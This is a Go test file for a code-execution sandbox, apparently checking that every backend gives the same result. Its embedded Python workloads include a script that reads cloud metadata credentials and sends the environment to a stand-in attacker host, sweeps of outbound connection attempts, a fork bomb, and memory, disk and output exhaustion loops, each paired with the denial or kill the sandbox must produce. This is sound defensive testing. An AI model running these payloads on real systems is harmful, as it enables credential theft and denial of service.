package parity

import (
	"encoding/json"
	"fmt"

	"github.com/enclave-run/enclave"
	"github.com/enclave-run/enclave/internal/audit"
	"github.com/enclave-run/enclave/internal/request"
)

// A Workload is one request and what it must come to on every backend.
type Workload struct {
	Name string // unique, of [a-z0-9-]
	Asks string // what it shows, in words
	// Peer is set if it needs PeerHost to answer: only the driver that booted a
	// control plane can give it one.
	Peer bool

	request enclave.SessionRequest
	want    Verdict
	egress  []string // the attempts that must be on record, each as attempt says it
}

// PeerHost is the host that a Workload with Peer may reach: it answers with
// PeerWord and a closed connection on port 80, and with zeros without end on
// port 8080.
const (
	PeerHost = "peer.example.com"
	PeerWord = "the peer heard it"
)

// Request returns the bytes that are sent: the same for every backend, and for
// every run of this version.
func (w Workload) Request() ([]byte, error) {
	raw, err := json.Marshal(w.request)
	if err != nil {
		return nil, fmt.Errorf("encode the request of %s: %w", w.Name, err)
	}
	return raw, nil
}

// Asked is the request of w as a control plane reads it, so that a record can't be
// shown for a request that it is not of.
func (w Workload) Asked() (request.Request, error) {
	raw, err := w.Request()
	if err != nil {
		return request.Request{}, err
	}
	var r request.Request
	if err := audit.Strict(raw, &r); err != nil {
		return request.Request{}, fmt.Errorf("read the request of %s: %w", w.Name, err)
	}
	return r, nil
}

// EgressCode is the workload of the demo of backend parity: it asks for the
// host's credentials, and sends away what it knows.
const EgressCode = `import os, urllib.request
try:
    print(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read())
except Exception as e:
    print("metadata:", e)
try:
    print(urllib.request.urlopen("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ))).read())
except Exception as e:
    print("exfil:", e)
enclave.result({"egressAttempted": True})
`

// attemptCode begins what tries a way out: each attempt prints that it was made.
// What a kernel calls its refusal is not compared.
const attemptCode = `import socket, struct
tried = []
def attempt(name, f):
    print("attempt", name, flush=True)
    tried.append(name)
    try:
        f()
    except OSError:
        print("refused", name, flush=True)
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(60); s.connect((host, port))
def udp(host, port, data=b"x", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(data, (host, port))
`

const everyWayOut = attemptCode + `
def icmp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 0) + b"ping", (host, 0))
def broadcast(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"x", (host, 9))
question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1"
attempt("name", lambda: socket.getaddrinfo("evil.example.com", 443))
attempt("address", lambda: tcp("203.0.113.7", 443))
attempt("metadata", lambda: tcp("169.254.169.254", 80))
attempt("private", lambda: tcp("10.0.0.1", 22))
attempt("tcp6", lambda: tcp("2001:db8::7", 443, socket.AF_INET6))
attempt("mapped", lambda: tcp("::ffff:203.0.113.8", 443, socket.AF_INET6))
attempt("udp", lambda: udp("203.0.113.7", 9999))
attempt("quic", lambda: udp("203.0.113.7", 443, b"\xc0" + b"x" * 1200))
attempt("udp6", lambda: udp("2001:db8::7", 9999, b"x", socket.AF_INET6))
attempt("resolver", lambda: udp("8.8.8.8", 53, question))
attempt("resolver over tcp", lambda: tcp("8.8.8.8", 53))
attempt("multicast", lambda: udp("224.0.0.251", 5353, question))
attempt("broadcast", lambda: broadcast("255.255.255.255"))
attempt("icmp", lambda: icmp("203.0.113.7"))
attempt("again", lambda: tcp("203.0.113.7", 443))
attempt("and again", lambda: tcp("203.0.113.7", 443))
enclave.result(len(tried))
`

const besideTheList = attemptCode + `
attempt("another name", lambda: socket.getaddrinfo("evil.example.com", 443))
attempt("the name above", lambda: socket.getaddrinfo("example.org", 443))
attempt("a name below", lambda: socket.getaddrinfo("www.listed.example.org", 443))
attempt("an address", lambda: tcp("198.51.100.7", 443))
attempt("another port", lambda: tcp("listed.example.org", 22))
attempt("not TCP", lambda: udp("listed.example.org", 443))
enclave.result(len(tried))
`

const readPeer = `import socket
s = socket.create_connection(("` + PeerHost + `", 80))
heard = b""
while b := s.recv(1000):
    heard += b
enclave.result(heard.decode())
`

const drainPeer = `import socket
s = socket.create_connection(("` + PeerHost + `", 8080))
while s.recv(1 << 16):
    pass
`

const leavePeer = `import socket
s = socket.create_connection(("` + PeerHost + `", 8080))
enclave.result(len(s.recv(1000)) > 0)
`

const talkOn = "import time\nn = 0\nwhile True:\n    n += 1\n    print(n, flush=True)\n    time.sleep(0.001)\n"

const forkBomb = "import os\nwhile True:\n    os.fork()\n"

const threads = "import threading, time\nfor _ in range(500):\n    threading.Thread(target=time.sleep, args=(60,)).start()\n"

const eatMemory = "x = []\nwhile True:\n    x.append(bytearray(1 << 20))\n"

const fillDisk = "f = open('/work/x', 'wb')\nwhile True:\n    f.write(b'x' * (1 << 20)); f.flush()\n"

const writeForEver = "import sys\nwhile True:\n    sys.stdout.write('x' * 4096)\n"

// Workloads returns the list, in the order in which they run. A certificate has
// all of them.
func Workloads() []Workload {
	python := func(code string) enclave.SessionRequest {
		return enclave.SessionRequest{Code: code, Language: "python", Egress: enclave.Egress{Mode: enclave.DenyAll, Allow: []string{}}}
	}
	in := func(language, code string) enclave.SessionRequest {
		r := python(code)
		r.Language = language
		return r
	}
	limited := func(code string, l enclave.Limits) enclave.SessionRequest {
		r := python(code)
		r.Limits = l
		return r
	}
	allowed := func(code string, l enclave.Limits, rules ...string) enclave.SessionRequest {
		r := limited(code, l)
		r.Egress = enclave.Egress{Mode: enclave.Allowlist, Allow: rules}
		return r
	}
	with := func(path, content string, r enclave.SessionRequest) enclave.SessionRequest {
		r.Files = map[string]string{path: content}
		return r
	}
	argv := func(words ...string) enclave.SessionRequest {
		return enclave.SessionRequest{Argv: words, Egress: enclave.Egress{Mode: enclave.DenyAll, Allow: []string{}}}
	}
	exited := func(code int, result string) Verdict {
		v := Verdict{Outcome: "failed", ExitCode: &code, Result: json.RawMessage(result)}
		if code == 0 {
			v.Outcome = "succeeded"
		}
		return v
	}
	dead := func(reason string) Verdict {
		return Verdict{Outcome: "killed", KillReason: reason, Result: json.RawMessage("null")}
	}
	full := dead("output_exceeded")
	full.Truncated = true
	return []Workload{
		{"clean", "a well-behaved agent's sum", false, python("enclave.result({\"answer\": sum(i * i for i in range(10))})\n"), exited(0, `{"answer":285}`), nil},
		{"credentials", "the host's credentials by address, an exfiltration by name", false, python(EgressCode), exited(0, `{"egressAttempted":true}`), []string{
			"denied tcp 169.254.169.254 80 not_allowed 1", "denied dns exfil.attacker.example not_allowed 1",
		}},
		{"every-way-out", "names, addresses, UDP, ICMP, resolvers, multicast, IPv6, repeats: all denied", false, python(everyWayOut), exited(0, "16"), []string{
			"denied dns evil.example.com not_allowed 1",
			"denied tcp 203.0.113.7 443 not_allowed 1",
			"denied tcp 169.254.169.254 80 not_allowed 1",
			"denied tcp 10.0.0.1 22 not_allowed 1",
			"denied tcp 2001:db8::7 443 not_allowed 1",
			"denied tcp 203.0.113.8 443 not_allowed 1",
			"denied udp 203.0.113.7 9999 protocol 1",
			"denied udp 203.0.113.7 443 protocol 1",
			"denied udp 2001:db8::7 9999 protocol 1",
			"denied udp 8.8.8.8 53 protocol 1",
			"denied tcp 8.8.8.8 53 not_allowed 1",
			"denied udp 224.0.0.251 5353 protocol 1",
			"denied udp 255.255.255.255 9 protocol 1",
			"denied icmp 203.0.113.7 protocol 1",
			"denied tcp 203.0.113.7 443 not_allowed 2",
		}},
		{"beside-the-list", "an allowlist, and everything that is not on it", false, allowed(besideTheList, enclave.Limits{}, "listed.example.org"), exited(0, "6"), []string{
			"denied dns evil.example.com not_allowed 1",
			"denied dns example.org not_allowed 1",
			"denied dns www.listed.example.org not_allowed 1",
			"denied tcp 198.51.100.7 443 not_allowed 1",
			"denied tcp listed.example.org 22 not_allowed 1",
			"denied udp listed.example.org 443 protocol 1",
		}},
		{"on-the-list", "an allowed host is reached by its name", true, allowed(readPeer, enclave.Limits{}, PeerHost), exited(0, `"`+PeerWord+`"`), []string{
			"allowed tcp " + PeerHost + " 80 allowed 1",
		}},
		{"left-early", "a stream without end from an allowed host, left after its beginning", true, allowed(leavePeer, enclave.Limits{}, PeerHost+":8080"), exited(0, "true"), []string{
			"allowed tcp " + PeerHost + " 8080 allowed 1",
		}},
		{"limit-pids", "a fork bomb", false, limited(forkBomb, enclave.Limits{PidsLimit: 64}), dead("pids_exceeded"), nil},
		{"limit-threads", "five hundred threads", false, limited(threads, enclave.Limits{PidsLimit: 64}), dead("pids_exceeded"), nil},
		{"limit-memory", "memory without end", false, limited(eatMemory, enclave.Limits{MemoryMB: 128}), dead("memory_exceeded"), nil},
		{"limit-cpu", "a loop", false, limited("while True:\n    pass\n", enclave.Limits{CPUSeconds: 1}), dead("cpu_exceeded"), nil},
		{"limit-wall", "a program that counts and sleeps", false, limited(talkOn, enclave.Limits{WallSeconds: 1}), dead("wall_clock_exceeded"), nil},
		{"limit-disk", "a file without end", false, limited(fillDisk, enclave.Limits{DiskMB: 32}), dead("disk_exceeded"), nil},
		{"limit-output", "output without end", false, limited(writeForEver, enclave.Limits{OutputBytes: 100_000}), full, nil},
		{"limit-egress", "traffic without end from an allowed host", true, allowed(drainPeer, enclave.Limits{EgressBytes: 1_000_000}, PeerHost+":8080"), dead("egress_exceeded"), []string{
			"allowed tcp " + PeerHost + " 8080 allowed 1",
		}},
		{"exit-status", "a status of its own", false, python("raise SystemExit(7)\n"), exited(7, "null"), nil},
		{"own-signal", "a workload that kills itself", false, python("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), exited(137, "null"), nil},
		{"syntax-error", "code that does not parse", false, python("def\n"), exited(1, "null"), nil},
		{"no-program", "a program that is not in the image", false, argv("no-such-program"), exited(127, "null"), nil},
		{"printed-not-given", "a printed line is only a printed line", false, python("print('{\"answer\": 285}')\n"), exited(0, "null"), nil},
		{"first-result", "the first of two results counts", false, python("enclave.result(1)\ntry:\n    enclave.result(2)\nexcept Exception:\n    pass\n"), exited(0, "1"), nil},
		{"result-not-json", "a result that JSON has no form for", false, python("enclave.result(float('nan'))\n"), exited(1, "null"), nil},
		{"result-and-failure", "a result, and then a failure", false, python("enclave.result([1, None, 'é'])\nraise SystemExit(3)\n"), exited(3, `[1,null,"é"]`), nil},
		{"files", "a file that the request brought", false, with("in/words", "héllo\n", python("enclave.result(open('/work/in/words').read())\n")), exited(0, `"héllo\n"`), nil},
		{"node", "another language", false, in("node", "enclave.result({a: [1, 2]})\n"), exited(0, `{"a":[1,2]}`), nil},
		{"bash", "and another, which fails after its result", false, in("bash", "enclave-result '{\"a\": 1}'\nexit 3\n"), exited(3, `{"a":1}`), nil},
	}
}

// Judge returns what of a record is not as w must come to, in words, or "".
func (w Workload) Judge(r Record) (string, error) {
	want, err := w.want.Canonical()
	if err != nil {
		return "", err
	}
	got, err := r.Verdict.Canonical()
	if err != nil {
		return "", err
	}
	x, err := json.Marshal(want)
	if err != nil {
		return "", fmt.Errorf("encode a verdict: %w", err)
	}
	y, err := json.Marshal(got)
	if err != nil {
		return "", fmt.Errorf("encode a verdict: %w", err)
	}
	if string(x) != string(y) {
		return fmt.Sprintf("the verdict is %s, and must be %s", y, x), nil
	}
	attempts, err := r.attempts()
	if err != nil {
		return "", err
	}
	for i := range max(len(attempts), len(w.egress)) {
		switch {
		case i >= len(attempts):
			return fmt.Sprintf("%q is not on record", w.egress[i]), nil
		case i >= len(w.egress):
			return fmt.Sprintf("%q is on record, and must not be", attempts[i]), nil
		case attempts[i] != w.egress[i]:
			return fmt.Sprintf("on record is %q where %q must be", attempts[i], w.egress[i]), nil
		}
	}
	return "", nil
}

// attempts returns the egress events of r in words.
func (r Record) attempts() ([]string, error) {
	var all []string
	for _, e := range r.Events {
		word := map[string]string{"egress_allowed": "allowed", "egress_denied": "denied"}[e.Type]
		if word == "" {
			continue
		}
		var d struct {
			Host, Protocol, Reason string
			Port                   uint16
			Count                  uint64
		}
		if err := json.Unmarshal(e.Data, &d); err != nil {
			return nil, fmt.Errorf("the data of %s: %w", e.Type, err)
		}
		row := word + " " + d.Protocol + " " + d.Host
		if d.Port != 0 {
			row += fmt.Sprintf(" %d", d.Port)
		}
		all = append(all, fmt.Sprintf("%s %s %d", row, d.Reason, d.Count))
	}
	return all, nil
}
